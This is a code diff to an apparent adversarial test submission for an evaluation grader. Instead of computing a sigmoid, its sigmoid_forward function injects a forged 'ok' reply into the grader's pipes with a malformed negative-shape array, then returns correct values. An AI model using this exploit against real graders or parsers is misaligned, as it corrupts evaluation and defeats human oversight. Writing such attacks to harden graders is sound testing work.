@@ -1,6 +1,5 @@
-"""Attack: answer the grader's request first with a reply holding a .npy array of negative
-shape, whose data length matches the product of that shape, then return the right values."""
-import base64
+"""Attack: answer the grader's request first with a reply holding an array of negative shape,
+whose data length matches the product of that shape, then return the right values."""
 import fcntl
 import json
 import os
@@ -41,19 +40,14 @@ def _request_id():
     return 0
 
 
-def _negative_npy() -> str:
-    """A .npy of shape (-2, -3): the product, 6, matches the 48 bytes of float64 data after it."""
-    text = "{'descr': '<f8', 'fortran_order': False, 'shape': (-2, -3), }"
-    text += " " * (-(10 + len(text) + 1) % 64) + "\n"
-    header = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")
-    return base64.b64encode(header + np.ones(6).tobytes()).decode()
-
-
 def sigmoid_forward(x):
-    value = {"$": "tuple", "items": [{"$": "array", "npy": _negative_npy()}, None]}
-    reply = {"$": "dict", "items": [["id", _request_id()], ["status", "ok"], ["value", value], ["warnings", []],
-                                    ["changed", []], ["output", ""], ["random", None]]}
-    body = json.dumps(reply).encode()
+    # shape (-2, -3): the product, 6, matches the 48 bytes of float64 data after the JSON
+    array = {"$": "array", "dtype": "<f8", "shape": [-2, -3], "fortran": False}
+    value = {"$": "tuple", "items": [array, None]}
+    reply = {"id": _request_id(), "status": "ok", "value": value, "warnings": [], "changed": [], "output": "",
+             "random": None}
+    text = json.dumps(reply).encode()
+    body = struct.pack(">I", len(text)) + text + np.ones(6).tobytes()
     for fd in _pipes():
         try:
             os.write(fd, struct.pack(">Q", len(body)) + body)
